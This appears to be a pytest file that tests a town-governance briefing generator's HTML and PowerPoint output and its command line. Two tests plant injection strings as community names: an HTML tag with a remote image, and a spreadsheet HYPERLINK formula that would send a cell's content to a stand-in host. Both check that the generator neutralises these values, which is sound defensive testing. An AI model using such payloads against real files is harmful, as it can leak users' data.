"""The briefing's two files and its command line, on the hand-made fixture.

HTML: parsed; every slide title and every KPI value of the deck in it; no external resource;
plotly.js inlined exactly once. PPTX: opened with python-pptx; eight 16:9 slides; a native
chart (with its workbook) on every platform slide holding the deck's numbers; native tables;
no pictures; an East-Asian font on every run with Chinese; LibreOffice turns it into a PDF
whose text holds the Chinese titles. The deck's numbers equal the app's for the same filters.
"""

from __future__ import annotations

import copy
import io
import re
import shutil
import subprocess
import zipfile
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from lxml import etree
from pptx import Presentation
from pptx.enum.shapes import MSO_SHAPE_TYPE
from pptx.oxml.ns import qn
from pptx.util import Inches

from governance import db
from governance import filters as flt
from governance.briefing import build_deck, html, pptx
from governance.briefing import content as bc
from governance.briefing.model import PLATFORM_KEYS
from governance.i18n import t
from scripts import briefing as cli
from tests import fixture_data
from tests.apptest_support import app_on, few_case_notes, open_page, tiles

CJK = re.compile(r"[\u3000-\u9fff\uff00-\uffef]")
PERIOD = flt.Filters(date(2010, 4, 1), date(2011, 4, 1))


@pytest.fixture(scope="module")
def deck(fixture_dir):
    con = db.connect(fixture_dir)
    d = build_deck(bc.db_runner(con, db.WHOLE_TOWN), PERIOD, "zh")
    con.close()
    return d


@pytest.fixture(scope="module")
def files(deck, tmp_path_factory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("briefing")
    return {"html": html.write(deck, out), "pptx": pptx.write(deck, out)}


class Parsed(HTMLParser):
    """Text outside scripts and styles, every src/href, the tags and the scripts."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []
        self.links: list[str] = []
        self.tags: list[str] = []
        self.scripts: list[str] = []
        self._in: str | None = None

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        for name, value in attrs:
            if name in ("src", "href") and value is not None:
                self.links.append(value)
        if tag in ("script", "style"):
            self._in = tag
            if tag == "script":
                self.scripts.append("")

    def handle_endtag(self, tag):
        if tag == self._in:
            self._in = None

    def handle_data(self, data):
        if self._in == "script":
            self.scripts[-1] += data
        elif self._in is None:
            self.text.append(data)


def parse(path: Path) -> Parsed:
    p = Parsed()
    p.feed(path.read_text(encoding="utf-8"))
    return p


# ---- HTML ------------------------------------------------------------------------------------


def test_html_holds_every_title_and_kpi_value(deck, files):
    page = parse(files["html"])
    text = "\n".join(page.text)
    for slide in deck.slides:
        assert slide.title in text, slide.title
        for tile in slide.tiles:
            assert tile.value_text in text, (slide.key, tile.label)
            assert tile.label in text
            assert tile.change_text in text
        for sentence in slide.sentences:
            assert sentence in text
    assert "13.33起/万人" in text  # 治安发案率 at 2011Q2: 6 incidents per 4,500 residents
    assert page.text.count("Traceback") == 0


def test_html_is_self_contained_with_plotly_once(deck, files):
    page = parse(files["html"])
    raw = files["html"].read_text(encoding="utf-8")
    assert not [link for link in page.links if re.match(r"\s*(https?:)?//", link, re.I)]
    assert "<link" not in raw  # no stylesheet or icon fetched
    assert raw.count("* plotly.js v") == 1
    library = [s for s in page.scripts if "* plotly.js v" in s]
    assert len(library) == 1
    charts = sum(1 for s in deck.slides if s.chart is not None)
    assert charts == 4
    assert sum(s.count("Plotly.newPlot(") for s in page.scripts if s not in library) == charts


def test_html_prints_one_slide_per_page(files):
    raw = files["html"].read_text(encoding="utf-8")
    assert (
        "@media print" in raw and "break-after: page" in raw and "page-break-after: always" in raw
    )
    # 9 slides (本期变化 after the outcomes) and the 督办 details page
    assert raw.count('<section class="slide') == 10


def test_html_shows_names_from_the_data_as_text(tmp_path: Path):
    rows = copy.deepcopy(fixture_data.ROWS)
    rows["communities"][0] = (
        "C01",
        '<b>甲</b><img src="http://x/y.png">',
        "Jia",
        "社区",
        2005,
        1000,
        400,
        30000.0,
        "P01",
    )
    con = db.connect(fixture_data.write(tmp_path / "data", rows))
    d = build_deck(
        bc.db_runner(con, db.WHOLE_TOWN),
        flt.Filters(date(2011, 1, 1), date(2011, 4, 1), ("C01",)),
        "zh",
    )
    con.close()
    path = html.write(d, tmp_path)
    page = parse(path)
    assert "img" not in page.tags and "b" not in page.tags
    assert '<b>甲</b><img src="http://x/y.png">' in "".join(page.text)
    assert not [link for link in page.links if "http" in link]


# ---- PPTX ------------------------------------------------------------------------------------


def test_pptx_has_eight_16_9_slides_with_native_charts_of_the_decks_numbers(deck, files):
    prs = Presentation(str(files["pptx"]))
    assert len(prs.slides) == 9  # 本期变化 after the outcomes
    assert prs.slide_width * 9 == pytest.approx(prs.slide_height * 16, rel=1e-3)
    for index, key in enumerate(PLATFORM_KEYS, start=3):
        page = prs.slides[index]
        charts = [s for s in page.shapes if s.has_chart]
        assert len(charts) == 1, key
        native = charts[0].chart
        expected = deck.slide(key).chart
        assert tuple(native.plots[0].categories) == expected.categories
        assert tuple(native.plots[0].series[0].values) == pytest.approx(expected.series[0][1])
        assert native.part.chart_workbook.xlsx_part is not None  # editable in PowerPoint
        # the bars start below the title, with room for a 100% bar's value above them
        inner = native._chartSpace.find(f"{qn('c:chart')}/{qn('c:plotArea')}/{qn('c:layout')}")
        y = inner.find(f"{qn('c:manualLayout')}/{qn('c:y')}").get("val")
        assert float(y) >= 0.2, key
    party = next(s for s in prs.slides[3].shapes if s.has_chart).chart
    assert tuple(party.plots[0].series[0].values) == pytest.approx((100.0, 200 / 3))


def test_each_slides_title_is_its_title_placeholder(deck, files):
    # what the outline view, the slide sorter and a screen reader name the slide by (a text
    # box at the top was no title to them)
    prs = Presentation(str(files["pptx"]))
    assert [page.shapes.title.text for page in prs.slides] == [s.title for s in deck.slides]
    assert all(page.shapes.title.top < Inches(1.2) for page in list(prs.slides)[1:])


HOSTILE = '=HYPERLINK("http://x"&A1,"点我")'


@pytest.mark.parametrize(
    ("scope", "where"),
    [((), "categories"), (("C01",), "series names")],  # bars by community; one's own lines
)
def test_pptx_chart_workbooks_hold_a_name_from_the_data_as_text_never_a_formula(
    tmp_path, scope, where
):
    """A community named like a formula: every embedded workbook holds the name as a text
    cell (no <f> anywhere), marked with Excel's quote prefix so editing keeps it text; the
    chart labels and the slide text show it exactly as it is, without a ' before it."""
    rows = copy.deepcopy(fixture_data.ROWS)
    rows["communities"][0] = ("C01", HOSTILE, "Jia", *rows["communities"][0][3:])
    con = db.connect(fixture_data.write(tmp_path / "data", rows))
    d = build_deck(
        bc.db_runner(con, db.WHOLE_TOWN), flt.Filters(date(2010, 4, 1), date(2011, 4, 1), scope)
    )
    con.close()
    path = pptx.write(d, tmp_path)
    with zipfile.ZipFile(path) as deck_zip:
        names = [n for n in deck_zip.namelist() if n.startswith("ppt/embeddings/")]
        books = [deck_zip.read(n) for n in names]
    assert len(books) == 4 and all(n.endswith(".xlsx") for n in names)
    for blob in books:
        with zipfile.ZipFile(io.BytesIO(blob)) as book_zip:
            sheets = [n for n in book_zip.namelist() if n.startswith("xl/worksheets/")]
            assert sheets
            for sheet in sheets:
                xml = book_zip.read(sheet).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, sheet
        cells = [c for row in openpyxl.load_workbook(io.BytesIO(blob)).active for c in row]
        [named] = [c for c in cells if c.value == HOSTILE]
        assert named.data_type == "s" and named.quotePrefix
        assert not [c for c in cells if c is not named and c.quotePrefix]  # only where needed
    prs = Presentation(str(path))
    for index in range(3, 7):  # the platform slides, after 本期变化
        plot = next(s for s in prs.slides[index].shapes if s.has_chart).chart.plots[0]
        if where == "categories":
            assert HOSTILE in plot.categories
        else:
            assert plot.series[0].name == HOSTILE
    ranking = next(s.table for s in prs.slides[7].shapes if s.has_table)
    assert HOSTILE in [c.text for row in ranking.rows for c in row.cells]


@pytest.mark.parametrize(
    ("lang", "title", "sentence"),
    [
        (
            "zh",
            "物业费收缴率 · 各社区 · 2011年第2季度（全镇目标 60.0%）",
            # 4 and 2 households billed: the small-sample rule names nobody
            "2011年第2季度各社区的物业费收缴率样本都少于10件，不点名最薄弱的社区。",
        ),
        (
            "en",
            "Property-fee collection by community · Q2 2011 (Town target 60.0%)",
            "In Q2 2011 every community's Property-fee collection rests on fewer than 10 "
            "cases: no community is named the weakest.",
        ),
    ],
)
def test_pptx_long_term_slide_says_whose_target_each_is(
    fixture_dir, tmp_path, lang, title, sentence
):
    """乙社区 has its own fee target (40%), the town's is 60%: the chart's title names the
    town's, the sentence 乙社区's own and the town's (English with English brackets)."""
    con = db.connect(fixture_dir)
    d = build_deck(bc.db_runner(con, db.WHOLE_TOWN), PERIOD, lang)
    con.close()
    prs = Presentation(str(pptx.write(d, tmp_path)))
    page = prs.slides[PLATFORM_KEYS.index("longterm") + 3]
    chart = next(s for s in page.shapes if s.has_chart).chart
    assert chart.chart_title.text_frame.text == title
    texts = [s.text_frame.text for s in page.shapes if s.has_text_frame]
    assert any(sentence in x for x in texts), texts


def test_pptx_uses_native_tables_and_no_pictures(deck, files):
    prs = Presentation(str(files["pptx"]))
    for page in prs.slides:
        assert all(s.shape_type != MSO_SHAPE_TYPE.PICTURE for s in page.shapes)
    tables = [s.table for s in prs.slides[7].shapes if s.has_table]
    assert len(tables) == 1
    expected = deck.slide("ranking").table
    cells = [[c.text for c in row.cells] for row in tables[0].rows]
    assert tuple(cells[0]) == expected.columns
    assert [tuple(r) for r in cells[1:]] == list(expected.rows)
    texts = " ".join(s.text_frame.text for s in prs.slides[1].shapes if s.has_text_frame)
    for tile in deck.slide("outcomes").tiles:
        assert tile.value_text in texts


def _runs(xml_root) -> list:
    return xml_root.iter(qn("a:r"))


def test_every_chinese_run_has_an_east_asian_font(files):
    prs = Presentation(str(files["pptx"]))
    checked = 0
    for page in prs.slides:
        roots = [page._element] + [s.chart._chartSpace for s in page.shapes if s.has_chart]
        for root in roots:
            for run in _runs(root):
                text = "".join(x.text or "" for x in run.iter(qn("a:t")))
                if not CJK.search(text):
                    continue
                r_pr = run.find(qn("a:rPr"))
                assert r_pr is not None, text
                ea = r_pr.find(qn("a:ea"))
                assert ea is not None and ea.get("typeface") == pptx.FONT, text
                assert r_pr.find(qn("a:latin")) is not None, text
                # the schema's order: latin before ea
                names = [etree.QName(c).localname for c in r_pr]
                assert names.index("latin") < names.index("ea"), text
                checked += 1
    assert checked > 100


def test_pptx_opens_in_libreoffice_with_the_chinese_titles(deck, files, tmp_path: Path):
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None or shutil.which("pdftotext") is None:
        pytest.skip(
            "LibreOffice (soffice) or pdftotext is not installed: "
            "apt-get install -y libreoffice-impress poppler-utils"
        )
    profile = tmp_path / "profile"  # its own profile: other LibreOffice runs do not lock it
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(files["pptx"]),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    pdf = tmp_path / (files["pptx"].stem + ".pdf")
    text = subprocess.run(
        ["pdftotext", str(pdf), "-"], check=True, capture_output=True, text=True
    ).stdout
    flat = re.sub(r"\s+", "", text)
    for slide in deck.slides:
        assert re.sub(r"\s+", "", slide.title) in flat, slide.title
    pages = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True).stdout
    assert re.search(r"Pages:\s+9\b", pages)


# ---- the same numbers as the app ---------------------------------------------------------------


def test_deck_values_equal_the_pages_for_the_same_filters(fixture_dir, monkeypatch):
    con = db.connect(fixture_dir)
    run = bc.db_runner(con, db.WHOLE_TOWN)
    quarters = [pd.Timestamp(q).date() for q in run("periods_available", {})["quarter"]]
    deck = build_deck(run, flt.default_filters(quarters, bc.data_as_of(run)), "zh")  # as the app
    con.close()
    at = open_page(app_on(fixture_dir, monkeypatch), "overview")

    def page_reading(at) -> dict[str, tuple[str, str]]:
        # a tile's change as the slide words it: a change on few cases says its counts on
        # the line under the tile, the slide beside the change ("-2.22（发案 7 → 6起，样本少）")
        notes = few_case_notes(at)
        return {
            label: (
                value,
                t("change.few", "zh", change=change, counts=notes[label].removeprefix("样本少："))
                if label in notes
                else change,
            )
            for label, (value, change) in tiles(at).items()
        }

    shown = page_reading(at)
    for tile in deck.slide("outcomes").tiles:
        assert shown[tile.label] == (tile.value_text, tile.change_text), tile.label
    assert shown["治安发案率"][1] == "-2.22（发案 7 → 6起，样本少）"  # the few-cases one
    at.switch_page("views/longterm.py").run()
    assert not at.exception
    fee = {t.label: t for t in deck.slide("longterm").tiles}["物业费收缴率"]
    assert page_reading(at)["物业费收缴率"] == (fee.value_text, fee.change_text)
    assert fee.value_text == "50.0%"  # 3 of 6 households paid in full in 2011Q2


# ---- the command line ----------------------------------------------------------------------------


def test_cli_writes_the_three_files_and_prints_their_paths(
    fixture_dir, monkeypatch, tmp_path, capsys
):
    monkeypatch.setenv("GOVERNANCE_DATA_DIR", str(fixture_dir))
    code = cli.main(
        ["--from", "2011Q1", "--to", "2011Q2", "--communities", "C01,C02", "--out", str(tmp_path)]
    )
    assert code == 0
    printed = capsys.readouterr().out.split()
    stem = "芦潮港镇四个平台汇报_2个社区_2011Q1-2011Q2"
    assert printed == [
        str(tmp_path / f"{stem}.pptx"),
        str(tmp_path / f"{stem}.html"),
        str(tmp_path / f"{stem}.docx"),
    ]
    assert all(Path(p).stat().st_size > 0 for p in printed)


def test_cli_defaults_to_the_period_ending_at_the_data_date(monkeypatch, tmp_path, capsys):
    # an outcomes row in 2021Q4 runs ahead of data that ends on 2011-06-30: the default
    # period is 2010Q2-2011Q2, not 2010Q2-2021Q4
    folder = fixture_data.write(tmp_path / "data", fixture_data.outcomes_running_ahead())
    monkeypatch.setenv("GOVERNANCE_DATA_DIR", str(folder))
    assert cli.main(["--out", str(tmp_path / "out")]) == 0
    stem = "芦潮港镇四个平台汇报_全镇_2010Q2-2011Q2"
    assert capsys.readouterr().out.split() == [
        str(tmp_path / "out" / f"{stem}.pptx"),
        str(tmp_path / "out" / f"{stem}.html"),
        str(tmp_path / "out" / f"{stem}.docx"),  # the Word 通报, third
    ]


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--from", "2012Q9"], "参数 from 的值“2012Q9”不是有效季度"),
        (["--communities", "C01,X9"], "参数 c 的值“X9”不是已知社区编号"),
        (["--lang", "fr"], "参数 --lang 的值“fr”无效"),
        (["--days", "abc"], "参数 --days 的值“abc”无效"),
        (["--nonsense"], "命令行参数有误"),
    ],
)
def test_cli_bad_option_says_so_in_chinese_with_exit_code_2(
    fixture_dir, monkeypatch, tmp_path, capsys, argv, message
):
    monkeypatch.setenv("GOVERNANCE_DATA_DIR", str(fixture_dir))
    with pytest.raises(SystemExit) as exit_info:
        cli.main([*argv, "--out", str(tmp_path)])
    assert exit_info.value.code == 2
    err = capsys.readouterr().err
    assert message in err and "Traceback" not in err
    assert not list(tmp_path.iterdir())  # nothing written


def test_pptx_bytes_for_a_download_are_the_same_presentation(deck):
    prs = Presentation(io.BytesIO(pptx.render(deck)))
    assert len(prs.slides) == 9
    assert html.render(deck).startswith("<!DOCTYPE html>")


def test_a_community_without_data_still_gets_both_files(fixture_dir, tmp_path):
    # 丙村 has no joint meetings, fees or stairwells: those platform slides have no chart and
    # say so in words; the files are still written and open.
    con = db.connect(fixture_dir)
    one = build_deck(
        bc.db_runner(con, db.WHOLE_TOWN), flt.Filters(date(2010, 4, 1), date(2011, 4, 1), ("V01",))
    )
    con.close()
    assert one.slide("party").chart is None
    assert one.slide("party").sentences == ("2011年第2季度没有各社区的联席会议议题解决率数据。",)
    prs = Presentation(str(pptx.write(one, tmp_path)))
    assert len(prs.slides) == 9
    assert not [s for s in prs.slides[3].shapes if s.has_chart]
    assert "没有各社区的联席会议议题解决率数据" in "".join(parse(html.write(one, tmp_path)).text)
